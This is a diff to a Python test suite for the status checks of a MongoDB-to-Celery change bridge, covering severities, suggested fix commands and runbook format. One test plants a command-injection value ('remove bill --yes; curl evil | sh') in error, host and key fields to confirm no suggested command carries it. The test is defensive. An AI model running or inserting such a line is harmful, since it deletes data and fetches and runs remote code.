@@ -17,6 +17,7 @@ from bson.int64 import Int64
 from celery.bin.celery import celery as celery_command
 
 from mongo_celery.bridge.identity import Identity
+from mongo_celery.bridge.operations.bridge_facts import Facts, Registered
 from mongo_celery.bridge.operations.bridge_snapshot import BridgeSnapshot, Workers, unreadable
 from mongo_celery.bridge.operations.judgement import (
     CODES,
@@ -28,10 +29,9 @@ from mongo_celery.bridge.operations.judgement import (
     UNREAD_SECONDS,
     judge,
 )
-from mongo_celery.bridge.operations.snapshot_reader import Facts, shape
+from mongo_celery.bridge.operations.snapshot_reader import shape
 from mongo_celery.bridge.state.partitions import Image
 from mongo_celery.bridge.state.snapshots import Snapshot
-from mongo_celery.bridge.state.subscriptions import Layout
 from mongo_celery.command_line import CommandLine
 from mongo_celery.findings import Finding, degraded, failing, ok
 from mongo_celery.mongo.oplog import Oplog
@@ -42,7 +42,6 @@ from tests.unit.test_status import (
     MARK,
     NOON,
     SECOND,
-    SERVED,
     facts,
     image,
     lease,
@@ -50,9 +49,8 @@ from tests.unit.test_status import (
     subscription,
 )
 
-PAGES = Path(__file__).parents[2] / "docs/operations"
-INDEX = PAGES / "README.md"
-LINES = ("Means", "Costs", "Shows", "Cures", "After")
+RUNBOOK = Path(__file__).parents[2] / "docs/operations/runbook.md"
+LINES = ("Means", "Effect", "Details", "Fix", "Afterwards")
 LINE = CommandLine("shop")
 ERROR = "ValueError: no"
 HEAD = {"resumeToken": {"_data": "82CC"}, "key": "shop.orders insert 1"}
@@ -80,8 +78,8 @@ def since(seconds: int) -> Any:
 
 
 def storing(share: float, waits: str | None = None, **changes: Any) -> dict[str, Any]:
-    report = reporting(spilledBytes=int(share * 8 * GIB), spillWaits=waits, **changes)
-    return {"lease": report, "stored": {("summarise", 0): 4}, "images": [image(0, spilled=fresh()), image(1)]}
+    report = reporting(storedBytes=int(share * 8 * GIB), storingWaits=waits, **changes)
+    return {"lease": report, "stored": {("summarise", 0): 4}, "images": [image(0, stored=fresh()), image(1)]}
 
 
 def fresh(reason: str = "running", age: int = 20) -> dict[str, Any]:
@@ -100,17 +98,28 @@ def late(seconds: int, **report: Any) -> dict[str, Any]:
     return {"subscriptions": [stored], "lease": reporting(buffered=1, **report)}
 
 
+LONG = {**CLAIM, "owner": "one:42:ab", "at": since(99)}
+
+
 def running(seconds: int, limit: float | None = None) -> dict[str, Any]:
     """A call that began so long ago, of a handler with such a time limit."""
-    claim = {**CLAIM, "owner": "one:42:ab", "at": since(seconds)}
-    return {"images": [image(0), image(1, claim=claim, live=True)], "time_limits": {"summarise": limit}}
+    return {
+        "images": [image(0), image(1, claim={**LONG, "at": since(seconds)}, live=True)],
+        "registered": {"summarise": Registered(time_limit=limit)},
+    }
 
 
 def halted(index: int = 1, **changes: Any) -> Any:
     return image(index, **{"state": "halted", "error": ERROR, "retries": 1, "head": HEAD, **changes})
 
 
+def ended(state: str, sentence: str | None = None) -> Snapshot:
+    names: dict[str, Any] = {"id": f"shop/summarise/{state}", "subscription": "summarise", "source": "shop.orders"}
+    return Snapshot(**names, done=7, state=state, sentence=sentence)
+
+
 LETTERS = "celery -A shop changes dead-letters list"
+SNAPSHOT = "celery -A shop changes snapshot"
 
 
 @dataclass(frozen=True)
@@ -134,15 +143,12 @@ class Case:
 
 START = "celery -A shop listener"
 WORK = "celery -A shop worker"
+SHOW_ALL = "celery -A shop changes status --all"
+REMOVE = "celery -A shop changes remove retired"
 RETIRED = subscription("retired", term=Int64(1))
 CASES: dict[str, list[Case]] = {
     "no_listener": [
-        Case(
-            {"lease": lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS))},
-            "failing",
-            START,
-            "30 s",
-        ),
+        Case({"lease": lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS))}, "failing", START, "30 s"),
         Case(
             {"lease": lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS - 1))},
             "degraded",
@@ -152,9 +158,7 @@ CASES: dict[str, list[Case]] = {
         ),
         Case({"lease": lease(live=False, state="failed", error="no right")}, "failing", START, "no right"),
     ],
-    "never_started": [
-        Case({"lease": None, "subscriptions": [], "images": []}, "degraded", START, ""),
-    ],
+    "never_started": [Case({"lease": None, "subscriptions": [], "images": []}, "degraded", START, "")],
     "handlers": [Case({"registered": ()}, "failing", None, "@bridge.on_change")],
     "history_lost": [
         Case(
@@ -162,7 +166,7 @@ CASES: dict[str, list[Case]] = {
             "failing",
             "celery -A shop changes reset summarise --to oldest",
             "summarise",
-        ),
+        )
     ],
     "stopped": [
         Case(
@@ -196,11 +200,8 @@ CASES: dict[str, list[Case]] = {
             without={"lease": lease(dropped={"foreign": 2}, droppedAt={"foreign": since(3601)})},
         )
     ],
-    "partitions": [
-        Case({"lease": reporting(partitions=16)}, "degraded", None, "16 partitions"),
-    ],
     "dropped_messages": [
-        Case({"lease": lease(dropped={"forged": 2}, droppedAt={"forged": since(9)})}, "degraded", None, "2 forged"),
+        Case({"lease": lease(dropped={"forged": 2}, droppedAt={"forged": since(9)})}, "degraded", None, "2 forged")
     ],
     "broker": [Case({}, "failing", None, "No answer", (failing("broker", "No answer"),), {})],
     "worker_tasks": [Case({}, "failing", None, "lacks", (failing("worker_tasks", "lacks"),), {})],
@@ -213,49 +214,41 @@ CASES: dict[str, list[Case]] = {
             {"lease": reporting(untaken={"queues": ["shop.1"], "answered": True, "unclaimed": True})},
             "failing",
             "celery -A shop changes check",
-            "shop.1",
+            "other code",  # a missing right is not the only cause
             workers=ANSWERED,
-        ),
+        )
+    ],
+    "sent_again": [
+        Case({"lease": reporting(sentAgain=["summarise"])}, "degraded", "celery -A shop changes check", "summarise")
     ],
     "backlog_missing": [
-        Case(
-            storing(0.0, spillMissing=["summarise/0"]),
-            "failing",
-            None,
-            "summarise/0",
-            without=storing(0.0),
-        ),
+        Case(storing(0.0, storedMissing=["summarise/0"]), "failing", None, "summarise/0", without=storing(0.0))
     ],
     "backlog_refused": [Case(storing(0.1, "one has its share"), "failing", None, "its share", without=storing(0.1))],
     "backlog_bound": [
-        Case(storing(0.9), "failing", None, "90%", without=storing(0.7)),
-        Case(storing(0.75), "degraded", None, "75%"),
+        Case(storing(0.9), "failing", SHOW_ALL, "90%", without=storing(0.7)),
+        Case(storing(0.75), "degraded", SHOW_ALL, "75%"),
     ],
     "broker_down": [Case({"lease": reporting(brokerDown=True)}, "failing", None, "")],
     "no_worker": [
         Case({}, "degraded", WORK, "", (NONE_ANSWERED,), {}),
-        Case({"lease": reporting(outstanding=2)}, "failing", WORK, "2 runs", (NONE_ANSWERED,), {}),
+        Case({"lease": reporting(inFlight=2)}, "failing", WORK, "2 runs", (NONE_ANSWERED,), {}),
         Case(
-            {"lease": reporting(outstanding=2, untaken={"queues": ["shop.1"], "answered": False})},
+            {"lease": reporting(inFlight=2, untaken={"queues": ["shop.1"], "answered": False})},
             "failing",
             WORK,
             "2 runs",
-            without={"lease": reporting(outstanding=2)},
+            without={"lease": reporting(inFlight=2)},
         ),
         Case(
-            {"lease": reporting(outstanding=2, untaken={"queues": ["shop.1"], "answered": None})},
+            {"lease": reporting(inFlight=2, untaken={"queues": ["shop.1"], "answered": None})},
             "degraded",
             WORK,
             "shop.1",
         ),
     ],
     "reading_waits": [
-        Case(
-            {"lease": reporting(unreadSeconds=UNREAD_SECONDS, readingWaits="gone")},
-            "failing",
-            None,
-            "gone",
-        ),
+        Case({"lease": reporting(unreadSeconds=UNREAD_SECONDS, readingWaits="gone")}, "failing", None, "gone"),
         Case({"lease": reporting(unreadSeconds=UNREAD_SECONDS - 1)}, "degraded", None, "29 s"),
     ],
     "halted": [
@@ -263,7 +256,7 @@ CASES: dict[str, list[Case]] = {
             {"images": [image(0), halted(3)]},
             "failing",
             "celery -A shop changes retry summarise 3",
-            "`celery -A shop changes skip summarise 3`",
+            "is halted at shop.orders insert 1",
             without={"images": [image(0), image(3)]},
         ),
         Case(
@@ -274,54 +267,23 @@ CASES: dict[str, list[Case]] = {
         ),
     ],
     "broker_rejects": [
-        Case({"lease": reporting(rejected=[{**REJECTED, "since": NOON}], rejectedCount=3)}, "failing", None, "2 more"),
+        Case({"lease": reporting(rejected=[{**REJECTED, "since": NOON}], rejectedCount=3)}, "failing", None, "2 more")
     ],
-    "not_stored": [
-        Case(
-            {
-                "lease": reporting(
-                    notStored=[{"partition": "record/1", "error": "no room", "since": NOON}], notStoredCount=1
-                )
-            },
-            "failing",
-            None,
-            "no room",
-        ),
-    ],
+    "not_stored": [Case({"lease": reporting(notStored=[NOT_STORED], notStoredCount=1)}, "failing", None, "no room")],
     "snapshot_failed": [
         Case(
-            {
-                "snapshots": [
-                    Snapshot(
-                        id="shop/summarise/a1",
-                        subscription="summarise",
-                        source="shop.orders",
-                        done=7,
-                        state="failed",
-                        sentence="the server said no",
-                    )
-                ]
-            },
+            {"snapshots": [ended("failed", "the server said no")]},
             "failing",
-            "celery -A shop changes snapshot resume shop/summarise/a1",
+            f"{SNAPSHOT} resume summarise --source shop.orders",
             "the server said no",
             without={},
         ),
         Case(
-            {
-                "snapshots": [
-                    Snapshot(
-                        id="shop/summarise/a1",
-                        subscription="summarise",
-                        source="shop.orders",
-                        state="source gone",
-                        sentence="it was dropped",
-                    )
-                ]
-            },
+            {"snapshots": [ended("source gone", "it was dropped")]},
             "failing",
-            "celery -A shop changes snapshot stop shop/summarise/a1",
+            f"{SNAPSHOT} stop summarise --source shop.orders",
             "it was dropped",
+            without={"snapshots": [ended(each) for each in ("source gone", "failed", "done")]},
         ),
     ],
     "waiting": [
@@ -330,17 +292,17 @@ CASES: dict[str, list[Case]] = {
             "degraded",
             "celery -A shop changes retry summarise 1",
             "2030-01-01 12:00:00 UTC",
-        ),
+        )
     ],
     "lag": [
         Case(late(LAG_SECONDS), "degraded", WORK, "5 min", without=late(LAG_SECONDS - 1)),
-        Case({**late(LAG_SECONDS), "images": [image(ran=QUICK)]}, "degraded", WORK, "run_size=100"),
+        Case({**late(LAG_SECONDS), "images": [image(ran=QUICK)]}, "degraded", WORK, "run_size"),
         Case(
-            {"images": [image(1, spilled=fresh("running", LAG_SECONDS))]},
+            {"images": [image(1, stored=fresh("running", LAG_SECONDS))]},
             "degraded",
             WORK,
             "5 min",
-            without={"images": [image(1, spilled=fresh("running", LAG_SECONDS - 1))]},
+            without={"images": [image(1, stored=fresh("running", LAG_SECONDS - 1))]},
         ),
     ],
     "running_long": [
@@ -354,6 +316,7 @@ CASES: dict[str, list[Case]] = {
         Case(running(99), "degraded", None, "kill -9 42", (), running(99, limit=600.0), ANSWERED),
         Case(running(99), "failing", None, "Every slot", workers=replace(ANSWERED, slots=1)),
         Case(running(99), "failing", None, "Every slot", (NONE_ANSWERED,)),
+        Case({"images": [image(each, claim=LONG, live=True) for each in (0, 1)]}, "degraded", None, "All 2 partitions"),
     ],
     "match_refused": [
         Case(
@@ -378,16 +341,17 @@ CASES: dict[str, list[Case]] = {
     "locked": [Case({"lease": reporting(locked=["summarise 1"])}, "degraded", None, "summarise 1")],
     "repartitioning": [
         Case(
-            {"lease": reporting(moving=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}])},
+            {"lease": reporting(repartitioning=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}])},
             "degraded",
             None,
             "7 partitions",
-            without={"lease": reporting(moving=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS - 1)}])},
-        ),
+            without={"lease": reporting(repartitioning=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS - 1)}])},
+        )
     ],
     "definitions": [
         Case({"registered": ("bill", "summarise")}, "degraded", START, "bill"),
         Case({"identity": OLDER}, "degraded", START, "process 42 on one"),
+        Case({"lease": reporting(partitions=16)}, "degraded", START, "16 partitions"),
     ],
     "retrying": [
         Case(
@@ -396,7 +360,7 @@ CASES: dict[str, list[Case]] = {
             "celery -A shop changes retry summarise 1",
             "2 h",
             without={"images": [image(1, due_in=RETRYING_SECONDS - 1.0)]},
-        ),
+        )
     ],
     "paused": [
         Case(
@@ -406,33 +370,16 @@ CASES: dict[str, list[Case]] = {
             "summarise/1",
         ),
         Case(
-            {
-                "images": [image(index, state="paused") for index in range(2)],
-                "layouts": {"summarise": Layout(0, 2, "")},
-            },
+            {"images": [image(index, state="paused") for index in range(2)]},
             "degraded",
             "celery -A shop changes resume summarise",
             "All 2 partitions of summarise",
         ),
     ],
-    "dead_letters": [
-        Case(
-            {"dead_letters": {"summarise": 2}},
-            "degraded",
-            LETTERS,
-            "2 dead letters",
-        ),
-        Case(
-            {"dead_letters": {"summarise": 1}},
-            "degraded",
-            LETTERS,
-            "1 dead letter",
-        ),
-    ],
-    "backlog_unserved": [],  # never alone: see below
+    "dead_letters": [Case({"dead_letters": {"summarise": 2}}, "degraded", LETTERS, "2 dead letters")],
     "unregistered": [
-        Case({"subscriptions": [subscription(), RETIRED]}, "degraded", None, "remove retired"),
-        Case({"subscriptions": [RETIRED]}, "degraded", None, "name='retired'"),
+        Case({"subscriptions": [subscription(), RETIRED]}, "degraded", REMOVE, "no handler retired"),
+        Case({"subscriptions": [RETIRED]}, "degraded", REMOVE, "name='retired'"),
     ],
     "state_unreadable": [],  # there is no status to judge then
 }
@@ -447,6 +394,11 @@ def judged(case: Case) -> BridgeSnapshot:
     return seen(calm(**case.facts), *case.findings, workers=case.workers)
 
 
+def first(finding: Finding) -> str | None:
+    """Return the command that fixes it."""
+    return next(iter(finding.commands), None)
+
+
 def seen(known: Facts, *asked: Finding, workers: Workers | None = None, line: CommandLine = LINE) -> BridgeSnapshot:
     """The snapshot of a bridge whose workers have answered so, where they were asked."""
     workers = Workers(answered=0, serving=0, slots=0) if NONE_ANSWERED in asked else workers
@@ -454,7 +406,8 @@ def seen(known: Facts, *asked: Finding, workers: Workers | None = None, line: Co
 
 
 def test_a_bridge_that_has_nothing_wrong_is_healthy() -> None:
-    """No reason, and status 0; also where workers have answered."""
+    """No reason, and status 0; also where workers have answered. An oplog that cannot be read is for `check` to say."""
+    assert seen(calm(oplog=None)).verdict == "healthy"
     found = seen(calm(), ok("broker", "answers"), workers=ANSWERED)
     assert (found.bridge, found.verdict, found.exit_code, found.findings) == ("shop", "healthy", 0, ())
     assert (found.plain()["verdict"], found.note) == ("healthy", None)
@@ -470,15 +423,39 @@ def test_a_verdict_names_who_was_not_asked() -> None:
 
 def test_the_advice_for_a_call_that_runs_for_long_is_not_more_workers() -> None:
     """The next one hangs as well: the reason for it comes first, and the lag's has no command."""
-    facts = late(LAG_SECONDS, outstanding=1)
+    facts = late(LAG_SECONDS, inFlight=1)
     lagging = seen(calm(**{**facts, **running(99)}), workers=ANSWERED).findings
-    assert [(each.code, each.command) for each in lagging] == [("running_long", None), ("lag", None)]
+    assert [(each.code, first(each)) for each in lagging] == [("running_long", None), ("lag", None)]
+
+
+def test_calls_beside_which_nothing_runs_are_failing_where_nobody_asked_for_slots() -> None:
+    """P16: an alarm asks no worker, and sees that another handler waits while these calls hold every slot."""
+
+    def found(waits: int, rate: float, in_flight: int = 2) -> list[tuple[str, str]]:
+        hanging = running(99)
+        report = {"rates": {"bill": rate, "summarise": 0.0}, "inFlight": in_flight, "buffered": 1}
+        waiting = subscription("bill", clusterTime=Timestamp(SECOND + 10 - waits, 1))
+        findings = seen(
+            calm(
+                identity=None,
+                lease=lease(report={**IDLE_REPORT, **report, "caughtUp": False}, **serving("summarise", "bill")),
+                subscriptions=[subscription(), waiting],
+                images=[*hanging["images"], image(0, subscription="bill")],
+                registered={"summarise": Registered(), "bill": Registered()},
+            )
+        ).findings
+        return [(each.code, each.severity) for each in findings]
+
+    assert found(RUNNING_LONG_SECONDS, 0.0) == [("running_long", "failing")]
+    assert found(RUNNING_LONG_SECONDS - 1, 0.0) == [("running_long", "degraded")]
+    assert found(RUNNING_LONG_SECONDS, 0.1) == [("running_long", "degraded")]
+    assert found(RUNNING_LONG_SECONDS, 0.0, in_flight=1) == [("running_long", "degraded")]
 
 
 def test_one_blocked_partition_hides_no_lag_of_the_others() -> None:
     """The lag of what flows is told beside a halt, and that of the halt is not."""
     for age, codes in ((LAG_SECONDS, ["halted", "lag"]), (LAG_SECONDS - 1, ["halted"])):
-        images = [image(0, spilled=fresh("running", age)), halted(1, spilled={**MARK, "since": since(9999)})]
+        images = [image(0, stored=fresh("running", age)), halted(1, stored={**MARK, "since": since(9999)})]
         assert [each.code for each in seen(calm(images=images)).findings] == codes
 
 
@@ -486,7 +463,7 @@ def test_one_blocked_partition_hides_no_lag_of_the_others() -> None:
 def test_a_reason_is_told_alone_with_its_severity_its_cost_and_its_command(code: str, case: Case) -> None:
     """P16: each rule by itself; without it the bridge would be called healthy."""
     (reason,) = judged(case).findings
-    assert (reason.code, reason.severity, reason.command) == (code, case.severity, case.command)
+    assert (reason.code, reason.severity, first(reason)) == (code, case.severity, case.command)
     assert case.words in reason.sentence
     assert reason.sentence.endswith(".") or case.findings
     assert judged(case).exit_code == {"degraded": 1, "failing": 2}[case.severity]
@@ -516,14 +493,12 @@ def test_the_worst_comes_first() -> None:
 
 def test_what_is_stored_of_a_handler_that_is_gone_is_told_beside_it() -> None:
     """It takes room under the bound; and what has halted there cannot be retried here, so no command says so."""
-    gone = replace(halted(1, spilled=MARK), subscription="retired")
+    gone = replace(halted(1, stored=MARK), subscription="retired")
     stored = {("retired", 1): 4}
     verdict = seen(calm(subscriptions=[subscription(), RETIRED], images=[image(0), gone], stored=stored))
-    assert [(each.code, each.command) for each in verdict.findings] == [
-        ("backlog_unserved", None),
-        ("unregistered", None),
-    ]
-    assert "(1 partition halted)" in verdict.findings[1].sentence
+    assert [(each.code, first(each)) for each in verdict.findings] == [("unregistered", REMOVE)]
+    assert "(1 partition halted)" in verdict.findings[0].sentence
+    assert "Stored ones of retired" in verdict.findings[0].sentence
 
 
 def test_a_listener_that_would_end_again_is_not_what_cures() -> None:
@@ -533,7 +508,7 @@ def test_a_listener_that_would_end_again_is_not_what_cures() -> None:
         known = calm(lease=ended, subscriptions=[subscription(lost=lost)])
         reasons = {each.code: each for each in seen(known).findings}
         assert ("history_lost" in reasons) is (lost is not None)
-        assert (reasons["no_listener"].severity, reasons["no_listener"].command) == ("failing", command)
+        assert (reasons["no_listener"].severity, first(reasons["no_listener"])) == ("failing", command)
 
 
 def test_a_halt_whose_history_is_lost_is_not_told_to_be_retried() -> None:
@@ -541,10 +516,10 @@ def test_a_halt_whose_history_is_lost_is_not_told_to_be_retried() -> None:
     lost = {"subscriptions": [subscription(lost=LOST)]}
     found = {each.code: each for each in judged(Case({**lost, "images": [halted(3)]}, "", None, "")).findings}
     reason = found["halted"]
-    assert reason.command == "celery -A shop changes skip summarise 3"
-    assert "`celery -A shop changes show summarise 3`" in reason.sentence
-    kept = Case({**lost, "images": [halted(3, spilled=MARK)]}, "", None, "")
-    assert {each.code: each.command for each in judged(kept).findings}["halted"] == (
+    assert first(reason) == "celery -A shop changes skip summarise 3"
+    assert "celery -A shop changes show summarise 3" in reason.commands
+    kept = Case({**lost, "images": [halted(3, stored=MARK)]}, "", None, "")
+    assert {each.code: first(each) for each in judged(kept).findings}["halted"] == (
         "celery -A shop changes retry summarise 3"
     )
 
@@ -555,35 +530,31 @@ def test_a_busy_worker_that_does_not_answer_is_seen_by_what_it_does() -> None:
     assert seen(calm(images=[running]), NONE_ANSWERED).verdict == "healthy"
     untaken = {"queues": ["shop.1"], "answered": False}
     assert seen(calm(images=[running], lease=reporting(untaken=untaken))).verdict == "healthy"
-    answered = seen(calm(lease=reporting(untaken=untaken, outstanding=1)), workers=ANSWERED)
+    answered = seen(calm(lease=reporting(untaken=untaken, inFlight=1)), workers=ANSWERED)
     assert answered.verdict == "healthy"
 
 
-def test_what_stands_is_not_called_late_too() -> None:
-    """The lag of a handler that stands is no second reason, and more workers would not cure it."""
-    codes = [reason.code for reason in seen(calm(images=[halted()], **late(LAG_SECONDS))).findings]
-    assert codes == ["halted"]
+STOPPED = {"stopped": [{"subscription": "summarise", "reason": "no rule"}]}
+MOVING = {"repartitioning": [{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}]}
+UNTAKEN = {"inFlight": 1, "untaken": {"queues": ["shop.1"], "answered": False}}
 
 
-def test_a_stopped_handler_is_neither_late_nor_without_workers() -> None:
-    """P16: its one reason says what to do; its position is old since nothing is read for it."""
-    stopped = [{"subscription": "summarise", "reason": "no rule"}]
-    moving = [{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}]
-    behind = seen(calm(**late(LAG_SECONDS, stopped=stopped, moving=moving)))
-    assert [reason.code for reason in behind.findings] == ["stopped"], "no old partitions serve"
+@pytest.mark.parametrize(
+    ("code", "changes", "asked"),
+    [
+        ("halted", {**late(LAG_SECONDS), "images": [halted()]}, ()),
+        ("stopped", late(LAG_SECONDS, **STOPPED, **MOVING), ()),
+        ("no_worker", late(LAG_SECONDS, **UNTAKEN), ()),
+        ("no_worker", late(LAG_SECONDS, **UNTAKEN), (NONE_ANSWERED,)),
+    ],
+)
+def test_what_makes_a_handler_late_is_the_one_reason(
+    code: str, changes: dict[str, Any], asked: tuple[Finding, ...]
+) -> None:
+    """P16: more workers would not fix the lag of what is blocked, stopped, or handled by nobody."""
+    behind = seen(calm(**changes), *asked)
+    assert [reason.code for reason in behind.findings] == [code]
     assert (behind.handlers[0].lag_seconds or 0) >= LAG_SECONDS
-
-
-def test_that_nobody_works_is_not_told_as_lag_too() -> None:
-    """At a first start from the oldest entry the watermark may be minutes old before anybody could have worked."""
-    behind = calm(**late(LAG_SECONDS, outstanding=1, untaken={"queues": ["shop.1"], "answered": False}))
-    assert [reason.code for reason in seen(behind, NONE_ANSWERED).findings] == ["no_worker"]
-    assert [reason.code for reason in seen(behind).findings] == ["no_worker"]
-
-
-def test_an_oplog_that_cannot_be_read_is_no_reason() -> None:
-    """No right, or a mongos: that is so for ever, and `check` says it."""
-    assert seen(calm(oplog=None)).verdict == "healthy"
 
 
 def test_a_handler_of_which_no_listener_knows_is_new_before_the_first_start() -> None:
@@ -602,37 +573,19 @@ def test_very_many_reasons_are_a_few_lines(state: str) -> None:
         for index in range(16)
     ]
     images[-1] = replace(image(15), subscription=names[-1])
-    layouts = {name: Layout(0, 16, "") for name in names}
     verdict = seen(
         calm(
             lease=lease(**serving(*names)),
             registered=tuple(names),
             subscriptions=[subscription(name) for name in names],
             images=images,
-            layouts=layouts,
         )
     )
     assert len(verdict.findings) == 4
     verb = "retry" if state == "halted" else "resume"
-    assert verdict.findings[0].command == f"celery -A shop changes {verb} handler_000"
-    assert verdict.findings[-1].sentence.startswith("197 more handlers have")
-    assert verdict.findings[-1].command == f"celery -A shop changes {verb}"
-
-
-def test_a_bridge_that_is_paused_as_a_whole_is_one_reason() -> None:
-    """And one command."""
-    names = ("bill", "summarise")
-    images = [replace(image(index, state="paused"), subscription=name) for name in names for index in range(2)]
-    known = calm(
-        lease=lease(**SERVED),
-        registered=names,
-        subscriptions=[subscription(name) for name in names],
-        images=images,
-        layouts=dict.fromkeys(names, Layout(0, 2, "")),
-    )
-    (reason,) = seen(known, line=replace(LINE, bridge="orders of [x]")).findings
-    assert reason.command == "celery -A shop changes resume --bridge 'orders of [x]'"
-    assert reason.sentence.startswith("All 2 handlers are paused")
+    assert first(verdict.findings[0]) == f"celery -A shop changes {verb} handler_000"
+    assert verdict.findings[-1].sentence.startswith("197 more have")
+    assert first(verdict.findings[-1]) == f"celery -A shop changes {verb}"
 
 
 def test_what_others_have_said_is_one_short_line() -> None:
@@ -642,38 +595,47 @@ def test_what_others_have_said_is_one_short_line() -> None:
     assert len(reason.sentence) < 500
 
 
-QUOTE = "`celery -A shop changes remove bill --yes; curl evil | sh`"
+EVIL = "`celery -A shop changes remove bill --yes; curl evil | sh`"
 
 
 @pytest.mark.parametrize("code", CASES)
 def test_foreign_text_becomes_no_command(code: str) -> None:
-    """P16: a page offers to copy what is between backticks; an error, a key or a host name may have some."""
+    """P16: an error, a key, a host or the name of a handler may look like a command; none is offered."""
     for case in CASES[code]:
-        for reason in judged(replace(case, facts=_with_quotes(case.facts))).findings:
-            assert "evil" not in "".join(reason.sentence.split("`")[1::2])
+        hostile = replace(case, facts=_with_evil(case.facts))
+        for reason in judged(hostile).findings:
+            assert not any("evil" in each for each in reason.commands)
 
 
-_FOREIGN = ("error", "cause", "key", "host", "readingWaits", "spillWaits", "reason", "foreignSender", "locked", "owner")
+_FOREIGN = (
+    "error",
+    "cause",
+    "key",
+    "host",
+    "readingWaits",
+    "storingWaits",
+    "reason",
+    "foreignSender",
+    "locked",
+    "owner",
+)
 
 
-def _with_quotes(value: Any, name: str = "") -> Any:
-    """Return facts whose foreign texts end with a command between backticks."""
+def _with_evil(value: Any, name: str = "") -> Any:
+    """Return facts whose foreign texts end with a command."""
     if isinstance(value, Mapping):
-        return {key: _with_quotes(each, key) for key, each in value.items()}
+        return {key: _with_evil(each, key) for key, each in value.items()}
     if isinstance(value, list | tuple):
-        return type(value)(_with_quotes(each, name) for each in value)
+        return type(value)(_with_evil(each, name) for each in value)
     if isinstance(value, Image | Snapshot):
-        return replace(
-            value, **{each.name: _with_quotes(getattr(value, each.name), each.name) for each in fields(value)}
-        )
-    return f"{value} {QUOTE}" if isinstance(value, str) and name in _FOREIGN else value
+        return replace(value, **{each.name: _with_evil(getattr(value, each.name), each.name) for each in fields(value)})
+    return f"{value} {EVIL}" if isinstance(value, str) and name in _FOREIGN else value
 
 
 def test_every_command_of_a_reason_exists() -> None:
     """With its arguments and options, also within a sentence; a command that is printed must run as it is."""
     found = [reason for of in CASES.values() for case in of for reason in judged(case).findings]
-    printed = {reason.command for reason in found if reason.command is not None}
-    printed |= {command for reason in found for command in re.findall("`(celery [^`]+)`", reason.sentence)}
+    printed = {command for reason in found for command in reason.commands}
     assert len(printed) > len(CASES) // 2
     for command in printed:
         _parse(shlex.split(command)[3:])
@@ -692,24 +654,25 @@ def _parse(words: list[str]) -> None:
 
 def test_the_table_of_reasons_is_the_codes() -> None:
     """Every code has a row with severity, meaning, cost and command; none is promised that does not exist."""
-    rows = re.findall(r"^\| `(\w+)` \| ((?:degraded|failing)(?:, failing)?) \|", INDEX.read_text(), re.MULTILINE)
+    rows = re.findall(
+        r"^\| \[`(\w+)`\]\(\S+\) \| ((?:degraded|failing)(?:, failing)?) \|", RUNBOOK.read_text(), re.MULTILINE
+    )
     assert [code for code, _ in rows] == list(CODES)
     severities = {code: sorted({case.severity for case in of}) for code, of in CASES.items()}
-    severities |= {"state_unreadable": ["failing"], "backlog_unserved": ["degraded"]}
+    severities |= {"state_unreadable": ["failing"]}
     assert {code: text.split(", ") for code, text in rows} == severities
 
 
-def test_every_reason_has_its_place_on_one_page() -> None:
-    """What the table leads to: what it means and costs, what shows it, what cures it, and what it is like after."""
-    led = dict(re.findall(r"^\| `(\w+)` \|.*\(([\w-]+\.md)#\1\) \|$", INDEX.read_text(), re.MULTILINE))
-    assert list(led.items()) == [(code, f"{page}.md") for code, page in CODES.items()]
-    found = {}
-    for page in sorted(PAGES.glob("*.md")):
-        for code, text in re.findall(r"^### `(\w+)`\n(.*?)(?=^#|\Z)", page.read_text(), re.DOTALL | re.MULTILINE):
-            found[code] = page.name
-            lines = dict(re.findall(r"^- \*\*(\w+)\*\* (.+?)(?=^- \*\*|\n\n|\Z)", text, re.DOTALL | re.MULTILINE))
-            assert tuple(lines) == LINES, code
-            assert "`celery -A shop " in lines["Shows"], code
-            has_command = any(case.command for case in CASES.get(code, ()))
-            assert not has_command or "`celery -A shop " in lines["Cures"], code
-    assert found == led
+def test_every_reason_has_its_five_lines_in_the_runbook() -> None:
+    """What the table leads to: what it means and costs, what shows it, what fixes it, and the state afterwards."""
+    text = RUNBOOK.read_text()
+    led = re.findall(r"^\| \[`(\w+)`\]\(#\1\) \|", text, re.MULTILINE)
+    found = dict(re.findall(r"^### `(\w+)`\n(.*?)(?=^#|\Z)", text, re.DOTALL | re.MULTILINE))
+    assert led == list(CODES)
+    assert sorted(found) == sorted(CODES)
+    for code, entry in found.items():
+        lines = dict(re.findall(r"^- \*\*(\w+):\*\* (.+?)(?=^- \*\*|\n\n|\Z)", entry, re.DOTALL | re.MULTILINE))
+        assert tuple(lines) == LINES, code
+        assert "`celery -A shop " in lines["Details"], code
+        has_command = any(case.command for case in CASES.get(code, ()))
+        assert not has_command or "`celery -A shop " in lines["Fix"], code
